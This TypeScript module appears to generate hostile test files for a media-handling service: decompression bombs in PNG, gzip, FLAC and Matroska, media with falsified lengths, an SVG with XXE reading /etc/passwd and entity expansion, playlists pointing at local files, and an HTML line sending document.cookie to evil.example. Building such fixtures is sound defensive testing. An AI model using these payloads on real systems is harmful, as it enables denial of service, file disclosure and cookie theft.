/** Files that were made to do harm: bombs, lies and files that are two things at once. Small here, whatever they become. */
import { constants, crc32, deflateRawSync, deflateSync, gzipSync } from "node:zlib";

const MB = 1_048_576;

export function ascii(text: string): Buffer {
  return Buffer.from(text, "latin1");
}

function be32(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(4 * values.length);
  values.forEach((value, at) => bytes.writeUInt32BE(value, 4 * at));
  return bytes;
}

function le(value: number, size: number): Buffer {
  return Buffer.from(Array.from({ length: size }, (_, at) => Math.floor(value / 256 ** at) % 256));
}

const PNG_MARK = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngChunk(kind: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([ascii(kind), data]);
  return Buffer.concat([be32(data.length), body, be32(crc32(body))]);
}

/** @param colour 0 grey, 2 red, green and blue */
function png(width: number, height: number, [depth, colour]: readonly [number, number], ...chunks: Buffer[]): Buffer {
  const head = Buffer.concat([be32(width, height), Buffer.of(depth, colour, 0, 0, 0)]);
  return Buffer.concat([PNG_MARK, pngChunk("IHDR", head), ...chunks, pngChunk("IEND", Buffer.alloc(0))]);
}

/** Makes bytes once: they are compressed from a hundred megabytes, and asked for again and again. */
const once = <Bytes>(make: () => Bytes): (() => Bytes) => {
  let made: { readonly bytes: Bytes } | undefined;
  return () => (made ??= { bytes: make() }).bytes;
};

const deflatedBlock = once(() =>
  deflateRawSync(Buffer.alloc(16 * MB), { level: 9, finishFlush: constants.Z_FULL_FLUSH }),
);

/** Deflated zeros of any length: a block that stands for 16 MB, repeated, since each begins afresh. */
function deflatedZeros(bytes: number): Buffer {
  const block = deflatedBlock();
  const blocks = Array.from({ length: bytes / (16 * MB) }, () => block);
  // No file needs the checksum at its end to do harm.
  return Buffer.concat([Buffer.of(0x78, 0x9c), ...blocks, Buffer.of(3, 0), be32(1)]);
}

const pixels = (width: number, height: number): Buffer => deflateSync(Buffer.alloc((3 * width + 1) * height));

export const GIGABYTES = 4_096 * MB;

/** A true picture of 900 million pixels in about 100 KB. */
export const pngOfPixels = once((): Buffer => {
  const side = 30_000;
  const rows = deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * side), { level: 9 });
  return png(side, side, [1, 0], pngChunk("IDAT", rows));
});

/** A body of 256 MB, compressed. */
export const gzipOfMegabytes = once((): Buffer => gzipSync(Buffer.alloc(256 * MB), { level: 1 }));

/** Says that it is small; its data inflate to gigabytes. */
export function pngOfGigabytes(): Buffer {
  return png(64, 64, [8, 2], pngChunk("IDAT", deflatedZeros(GIGABYTES)));
}

/** The picture is small and whole; what is told about it inflates to gigabytes. */
export function pngWithBomb(kind: "iCCP" | "zTXt" | "iTXt"): Buffer {
  const head = { iCCP: "icc\0\0", zTXt: "Comment\0\0", iTXt: "Comment\0\u0001\0\0\0" }[kind];
  const bomb = Buffer.concat([ascii(head), deflatedZeros(GIGABYTES / 4)]);
  return png(32, 32, [8, 2], pngChunk(kind, bomb), pngChunk("IDAT", pixels(32, 32)));
}

function riffChunk(kind: string, data: Uint8Array): Buffer {
  return Buffer.concat([ascii(kind), le(data.length, 4), data, Buffer.alloc(data.length & 1)]);
}

function riff(kind: string, ...chunks: Uint8Array[]): Buffer {
  const body = Buffer.concat([ascii(kind), ...chunks]);
  return Buffer.concat([ascii("RIFF"), le(body.length, 4), body]);
}

/**
 * An animation, each of whose pictures is the one still.
 * @param still a WebP of one chunk
 * @param canvas what the file says of its sides
 */
export function animatedWebp(still: Uint8Array, frames: number, canvas: number, side = canvas): Buffer {
  const frame = riffChunk(
    "ANMF",
    Buffer.concat([le(0, 6), le(side - 1, 3), le(side - 1, 3), le(40, 3), Buffer.of(0), still.subarray(12)]),
  );
  const head = Buffer.concat([Buffer.of(0x02, 0, 0, 0), le(canvas - 1, 3), le(canvas - 1, 3)]);
  const animation = riffChunk("ANIM", Buffer.alloc(6));
  return riff("WEBP", riffChunk("VP8X", head), animation, ...Array<Buffer>(frames).fill(frame));
}

/** A GIF of many pictures of one pixel each. */
export function animatedGif(frames: number, side = 1): Buffer {
  const head = Buffer.concat([
    ascii("GIF89a"),
    le(side, 2),
    le(side, 2),
    Buffer.of(0x80, 0, 0, 0, 0, 0, 255, 255, 255),
  ]);
  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0]);
  return Buffer.concat([head, ...Array<Buffer>(frames).fill(frame), Buffer.of(0x3b)]);
}

/** Scans over scans of one picture: each is a few bytes, and a pass over all its pixels. @param jpeg a progressive one */
export function jpegOfScans(jpeg: Uint8Array, scans: number): Buffer {
  const scan = Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 1, 63, 0, 0]);
  return Buffer.concat([jpeg.subarray(0, -2), ...Array<Buffer>(scans).fill(scan), Buffer.of(0xff, 0xd9)]);
}

/** Puts a comment before the picture of a JPEG. */
export function jpegWithComment(jpeg: Uint8Array, comment: string): Buffer {
  const text = ascii(comment);
  const length = Buffer.from([(text.length + 2) >> 8, (text.length + 2) & 255]);
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.of(0xff, 0xfe), length, text, jpeg.subarray(2)]);
}

export const PAGE = "<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>";

/** A ZIP without members. */
export const ZIP = Buffer.concat([ascii("PK\u0005\u0006"), Buffer.alloc(18)]);
/** A ZIP that begins with one. */
export const ZIP_FILE = Buffer.concat([
  ascii("PK\u0003\u0004"),
  Buffer.from([20, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
  Buffer.alloc(12),
  Buffer.from([5, 0, 0, 0]),
  ascii("a.txt"),
  ZIP,
]);

export function svgOf(target: string): Buffer {
  return Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa">` +
      `<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>` +
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">` +
      `<script>fetch("${target}")</script><text>&x;&c;</text><image xlink:href="${target}" width="64" height="64"/></svg>`,
  );
}

interface WavHead {
  readonly rate?: number;
  readonly channels?: number;
  readonly bits?: number;
  readonly code?: number;
  readonly dataBytes?: number;
  readonly riffBytes?: number;
  readonly formatBytes?: number;
  readonly blockBytes?: number;
}

/** A second of a tone at 8 kHz, 16 bits, whatever its head says. */
export function wav(head: WavHead = {}, sound: Uint8Array = tone(8_000)): Buffer {
  const { rate = 8_000, channels = 1, bits = 16, code = 1 } = head;
  const { blockBytes = Math.ceil((channels * bits) / 8), dataBytes = sound.length } = head;
  const format = [le(code, 2), le(channels, 2), le(rate, 4), le(rate * blockBytes, 4), le(blockBytes, 2), le(bits, 2)];
  return Buffer.concat([
    ascii("RIFF"),
    le(head.riffBytes ?? 36 + sound.length, 4),
    ascii("WAVEfmt "),
    le(head.formatBytes ?? 16, 4),
    ...format,
    ascii("data"),
    le(dataBytes, 4),
    sound,
  ]);
}

function tone(samples: number): Buffer {
  const bytes = Buffer.alloc(2 * samples);
  for (let at = 0; at < samples; at += 1) bytes.writeInt16LE(Math.round(8_000 * Math.sin(at / 3)), 2 * at);
  return bytes;
}

/** An MP3 of which a tag says that it has millions of frames: hours. @param mp3 frames without a tag */
export function mp3OfHours(mp3: Uint8Array): Buffer {
  const first = Buffer.alloc(1_152);
  first.set(mp3.subarray(0, 4));
  for (const at of [13, 21, 36]) first.set(Buffer.concat([ascii("Xing"), be32(3, 0x7fffffff, 0x7fffffff)]), at);
  return Buffer.concat([first.subarray(0, mp3Length(mp3)), mp3]);
}

/** To the next frame, which begins as the first does. */
function mp3Length(mp3: Uint8Array): number {
  return Buffer.from(mp3).indexOf(mp3.subarray(0, 2), 4);
}

/** Silence in eight channels, of which half a megabyte is an hour and gigabytes of samples. */
export function flacOfSilence(frames: number, rate: number): Buffer {
  const info = Buffer.alloc(34);
  info.fill(0xff, 0, 4);
  info.writeBigUInt64BE((BigInt(rate) << 44n) | (7n << 41n) | (15n << 36n), 10);
  const channels = Buffer.alloc(3 * 8);
  const all = Array.from({ length: frames }, (_, at) => {
    // The number of a frame is written as a character is; some characters are none.
    const number = Buffer.from(String.fromCodePoint(at));
    const head = Buffer.concat([Buffer.of(0xff, 0xf8, 0x70, 0x70), number, Buffer.of(0xff, 0xfe)]);
    const body = Buffer.concat([head, Buffer.of(crcOf(head, 0x07, 8)), channels]);
    const sum = crcOf(body, 0x8005, 16);
    return Buffer.concat([body, Buffer.of(sum >> 8, sum & 0xff)]);
  });
  return Buffer.concat([ascii("fLaC"), Buffer.of(0x80, 0, 0, 34), info, ...all]);
}

function crcOf(bytes: Uint8Array, polynomial: number, bits: 8 | 16): number {
  let crc = 0;
  for (const byte of bytes) {
    crc ^= byte << (bits - 8);
    for (let bit = 0; bit < 8; bit += 1) crc = (crc << 1) ^ ((crc >> (bits - 1)) & 1 ? polynomial : 0);
    crc &= 2 ** bits - 1;
  }
  return crc;
}

/** STREAMINFO that promises 2³⁶ - 1 samples. */
export function flacOfHours(flac: Uint8Array): Buffer {
  const bytes = Buffer.from(flac);
  bytes[21] = (bytes[21] ?? 0) | 0x0f;
  bytes.fill(0xff, 22, 26);
  return bytes;
}

/** Every page says that hours have passed. Checksums are left as they were or mended, as asked. */
export function oggOfHours(ogg: Uint8Array): Buffer {
  const bytes = Buffer.from(ogg);
  for (let at = bytes.indexOf("OggS"); at >= 0; at = bytes.indexOf("OggS", at + 4)) {
    if (bytes.readBigInt64LE(at + 6) > 0n) bytes.writeBigInt64LE(0x7000_0000_0000n, at + 6);
    bytes.writeUInt32LE(0, at + 22);
    const end = at + 27 + (bytes[at + 26] ?? 0);
    const length = bytes.subarray(at + 27, end).reduce((sum, one) => sum + one, 0);
    bytes.writeUInt32LE(oggCrc(bytes.subarray(at, end + length)), at + 22);
  }
  return bytes;
}

/** CRC-32 with the polynomial 04c11db7, highest bit first (RFC 3533). */
function oggCrc(page: Uint8Array): number {
  let crc = 0;
  for (const byte of page) {
    crc ^= byte << 24;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc << 1) ^ ((crc & 0x8000_0000) === 0 ? 0 : 0x04c1_1db7);
  }
  return crc >>> 0;
}

function ebml(id: readonly number[], size: readonly number[], ...content: Uint8Array[]): Buffer {
  return Buffer.concat([Buffer.from(id), Buffer.from(size), ...content]);
}

const EBML_HEAD = ebml([0x1a, 0x45, 0xdf, 0xa3], [0x84], Buffer.from([0x42, 0x86, 0x81, 0x01]));
const HUGE = [0x01, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xfe];

/** Matroska with elements of 2⁵⁶ bytes, nested where they may be. */
export function matroskaOfHugeSizes(): Buffer {
  const codec = ebml([0x63, 0xa2], HUGE, Buffer.alloc(64));
  const track = ebml([0xae], HUGE, ebml([0xd7], [0x81], Buffer.of(1)), ebml([0x83], [0x81], Buffer.of(2)), codec);
  const segment = ebml([0x18, 0x53, 0x80, 0x67], HUGE, ebml([0x16, 0x54, 0xae, 0x6b], HUGE, track));
  return Buffer.concat([EBML_HEAD, segment, Buffer.alloc(4_096, 0xff)]);
}

/** Matroska with thousands of elements of "unknown" size, which only some elements may have. */
export function matroskaOfNests(): Buffer {
  const open = Buffer.from([0x1f, 0x43, 0xb6, 0x75, 0x01, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]);
  const segment = ebml([0x18, 0x53, 0x80, 0x67], [0x01, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]);
  return Buffer.concat([EBML_HEAD, segment, ...Array<Buffer>(20_000).fill(open)]);
}

function box(kind: string, ...content: Uint8Array[]): Buffer {
  const body = Buffer.concat(content);
  return Buffer.concat([be32(8 + body.length), ascii(kind), body]);
}

/** A film of which the index promises four billion pictures, each of nothing. */
export function mp4OfBillions(width: number, height: number): Buffer {
  const sides = be32(width * 65_536, height * 65_536);
  const entry = box(
    "avc1",
    Buffer.alloc(24),
    Buffer.concat([Buffer.from([width >> 8, width & 255, height >> 8, height & 255])]),
    Buffer.alloc(50),
  );
  const table = box(
    "stbl",
    box("stsd", be32(0, 1), entry),
    box("stts", be32(0, 1, 0xffff_ffff, 0xffff_ffff)),
    box("stsc", be32(0, 1, 1, 0xffff_ffff, 1)),
    box("stsz", be32(0, 1, 0xffff_ffff)),
    box("stco", be32(0, 1, 0)),
  );
  const media = box(
    "mdia",
    box("mdhd", be32(0, 0, 0, 25, 0xffff_ffff, 0)),
    box("hdlr", be32(0, 0), ascii("vide"), Buffer.alloc(13)),
    box("minf", table),
  );
  const track = box("trak", box("tkhd", Buffer.alloc(76), sides), media);
  const movie = box("moov", box("mvhd", Buffer.alloc(100)), track);
  return Buffer.concat([box("ftyp", ascii("isom"), be32(0)), movie, box("mdat", Buffer.alloc(1_000))]);
}

/** Lists that name where a player should go on. */
export function playlists(target: string): Readonly<Record<string, Buffer>> {
  return {
    m3u8: Buffer.from(`#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n${target}\n#EXTINF:10,\nfile:///etc/passwd\n`),
    ffconcat: Buffer.from(`ffconcat version 1.0\nfile '${target}'\nfile 'file:///etc/passwd'\n`),
    sdp: Buffer.from(
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nu=${target}\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\n`,
    ),
    pls: Buffer.from(`[playlist]\nFile1=${target}\nNumberOfEntries=1\n`),
    xspf: Buffer.from(
      `<?xml version="1.0"?><playlist><trackList><track><location>${target}</location></track></trackList></playlist>`,
    ),
  };
}

/** The same film, each of whose pictures is shown for so many ticks. */
export function mp4OfTicks(film: Uint8Array, ticks: number): Buffer {
  const bytes = Buffer.from(film);
  for (let at = bytes.indexOf("stts"); at >= 0; at = bytes.indexOf("stts", at + 1)) {
    for (let entry = 0; entry < bytes.readUInt32BE(at + 8); entry += 1) bytes.writeUInt32BE(ticks, at + 16 + 8 * entry);
  }
  return bytes;
}
